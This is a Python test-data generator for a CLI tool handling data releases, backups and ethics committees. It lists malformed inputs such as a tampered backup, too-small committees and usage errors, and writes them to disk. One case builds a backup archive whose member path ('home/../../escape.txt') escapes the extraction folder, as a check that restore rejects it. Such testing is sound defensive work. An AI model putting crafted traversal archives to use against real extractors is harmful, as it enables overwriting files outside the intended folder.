    Case(id="restore-edited-archive", what="a backup whose file was changed after the manifest", command=("restore",),
         argv=("{backup.tar.gz}",), files={"backup.tar.gz": _backup_archive(edit=True)},
         message_has=("home/secrets/pseudonym-default.key", "sha256")),
    Case(id="restore-traversal-archive", what="a backup member that climbs out with ..", command=("restore",),
         argv=("{backup.tar.gz}",), files={"backup.tar.gz": _backup_archive(traversal=True)},
         message_has=("home/../../escape.txt",)),
    Case(id="restore-not-a-backup", what="a tar.gz without a manifest", command=("restore",),
         argv=("{backup.tar.gz}",), files={"backup.tar.gz": _backup_archive(manifest=False)},
         message_has=("manifest.json",)),
    # ---- ethics committee of a real deployment (sandbox committee create NAME --members FILE.yaml)
    Case(id="committee-too-few-members", what="a committee of 6 (the rule asks for at least 7)",
         command=("committee", "create"), argv=("第二伦理委员会", "--members", "{members.yaml}", *AS_ADMIN),
         files={"members.yaml": _text(_committee_yaml(6))}, message_has=("6", "7")),
    Case(id="committee-member-missing-sex", what="the second member of the file has no sex field",
         command=("committee", "create"), argv=("第二伦理委员会", "--members", "{members.yaml}", *AS_ADMIN),
         files={"members.yaml": _text(_committee_yaml(7).replace("    sex: 女\n", "", 1))},
         message_has=("members.yaml", "2", "sex")),
    # ---- command-line usage errors (the parser's own messages, in the user's language, exit 2)
    Case(id="usage-missing-option", what="required --by left out", command=RELEASE,
         argv=("{data.csv}", "--epsilon", "0.5", "--dataset", "corpus-release", *AS_STEWARD),
         files={"data.csv": _GOOD}, exit_code=2),
    Case(id="usage-missing-argument", what="models show without NAME", command=("models", "show"),
         argv=AS_VENDOR, exit_code=2),
    Case(id="usage-no-such-option", what="an option that does not exist", command=("budget", "show"),
         argv=("corpus-release", "--epsilon-total", "3", *AS_STEWARD), exit_code=2),
    Case(id="usage-no-such-command", what="a sub-command that does not exist", command=("users",),
         argv=("delete", "reviewer", *AS_ADMIN), exit_code=2),
    Case(id="usage-not-an-integer", what="trial id given as text", command=("models", "transition"),
         argv=("第一个", "in_trial", *AS_ADMIN), exit_code=2),
    Case(id="usage-option-needs-value", what="--epsilon at the end without a value", command=RELEASE,
         argv=("{data.csv}", "--by", "街道镇", "--dataset", "corpus-release", *AS_STEWARD, "--epsilon"),
         files={"data.csv": _GOOD}, exit_code=2),
)

CASE_IDS = [case.id for case in CASES]
assert len(set(CASE_IDS)) == len(CASE_IDS), "duplicate case id"


def build_files(case: Case, folder: Path) -> dict[str, Path]:
    """Write the case's files into ``folder``; return name → path."""
    folder.mkdir(parents=True, exist_ok=True)
    paths: dict[str, Path] = {}
    for name, make in case.files.items():
        target = folder / name
        make(target)
        paths[name] = target
    return paths


def main(argv: list[str]) -> int:
    if len(argv) != 1:
        print("usage: python tests/data/make_bad_corpus.py OUT_DIR", file=sys.stderr)
        return 2
    out = Path(argv[0])
    for case in CASES:
        build_files(case, out / case.id)
    print(f"{len(CASES)} cases written under {out}")
    return 0


if __name__ == "__main__":
    raise SystemExit(main(sys.argv[1:]))
